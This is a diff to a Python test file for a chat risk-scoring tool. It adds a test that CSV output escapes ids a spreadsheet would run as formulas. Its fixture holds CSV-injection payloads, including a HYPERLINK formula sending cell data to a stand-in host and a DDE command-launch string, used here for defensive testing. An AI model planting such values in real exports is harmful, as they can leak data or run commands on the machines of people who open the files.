@@ -9,7 +9,10 @@ from pathlib import Path
 import pyarrow.parquet as pq
 import pytest
 
-from detection.batch import CONVERSATION_COLUMNS, MESSAGE_COLUMNS
+from detection.batch import CONVERSATION_COLUMNS, MESSAGE_COLUMNS, score_file
+from detection.model import RiskModel
+from detection.partitioned import score_file_partitioned
+from detection.writers import write_rows
 from tests.cli_helpers import riskline
 from tests.conftest import write_jsonl
 
@@ -62,6 +65,53 @@ def test_formats_agree(events_path: Path, model_dir: Path, tmp_path: Path) -> No
     assert [r["conversation_id"] for r in from_parquet] == [r["conversation_id"] for r in from_csv]
     assert [round(r["risk_score"], 9) for r in from_parquet] == [round(float(r["risk_score"]), 9) for r in from_csv]
     assert json.loads(from_csv[0]["evidence_message_ids"]) == from_parquet[0]["evidence_message_ids"]
+
+
+def test_csv_results_keep_a_spreadsheet_from_running_ids_as_formulas(
+        model: RiskModel, synth_rows: list[dict[str, object]], tmp_path: Path) -> None:
+    """Ids come from the people scored (a user name as a sender id): in CSV results, from either local engine, a
+    text that a spreadsheet would run as a formula is written after a ' (a plain number, as a negative chat id,
+    stays as it is); JSON Lines results and message events keep the ids as they are."""
+    def shown(value: object) -> object:  # as a spreadsheet should see an id: a formula's text after a '
+        if value is None:
+            return ""
+        assert isinstance(value, str)
+        return value if value == "-1001234567890" or value[0] not in "=+-@" else "'" + value
+
+    # (ids are read with white space taken off either end, so none starts with a tab or a carriage return)
+    hostile = {"=HYPERLINK(\"http://x.example/\"&A1)": "=", "+cmd|' /C calc'!A0": "+", "@SUM(1+1)": "@",
+               "-2+3": "-", "=1.5": "=", "-1001234567890": None}
+    conversations = list(dict.fromkeys(r["conversation_id"] for r in synth_rows))
+    rows = []
+    for name, conversation in zip(hostile, conversations, strict=False):  # a conversation, a sender, message ids
+        rows += [{**r, "conversation_id": name, "message_id": f"{name}#{i}" if i else name,
+                  "sender_id": name if i % 2 else r["sender_id"]}
+                 for i, r in enumerate(r for r in synth_rows if r["conversation_id"] == conversation)]
+    source = write_jsonl(tmp_path / "events.jsonl", rows)
+    score_file(model, source, tmp_path / "plain.jsonl")
+    score_file(model, source, tmp_path / "local.csv")
+    score_file_partitioned(model, source, tmp_path / "parts.csv", workers=2, partitions=3)
+    score_file(model, source, tmp_path / "steps.csv", per_message=True)
+    plain = _read_jsonl(tmp_path / "plain.jsonl")
+    assert {r["conversation_id"] for r in plain} == set(hostile)
+    for name in ("local.csv", "parts.csv"):
+        with (tmp_path / name).open(newline="") as handle:
+            got = list(csv.DictReader(handle))
+        assert len(got) == len(plain)
+        for cells, row in zip(got, plain, strict=True):
+            for field in ("conversation_id", "alert_message_id", "suspect_id"):
+                assert cells[field] == shown(row[field]), (name, field)
+            assert cells["conversation_id"] == (row["conversation_id"] if row["conversation_id"] == "-1001234567890"
+                                                else "'" + row["conversation_id"])
+        assert any(shown(row["suspect_id"]) != row["suspect_id"] for row in plain)
+    score_file(model, source, tmp_path / "steps.jsonl", per_message=True)
+    with (tmp_path / "steps.csv").open(newline="") as handle:
+        ids = [r["message_id"] for r in csv.DictReader(handle)]
+    assert ids == [shown(r["message_id"]) for r in _read_jsonl(tmp_path / "steps.jsonl")]
+    assert "-1001234567890" in ids and "'-1001234567890#1" in ids
+    write_rows(tmp_path / "events.csv", rows)  # message events, as convert and synth write them: verbatim
+    with (tmp_path / "events.csv").open(newline="") as handle:
+        assert [r["sender_id"] for r in csv.DictReader(handle)] == [r["sender_id"] for r in rows]
 
 
 def test_per_message(events_path: Path, model_dir: Path, tmp_path: Path) -> None:
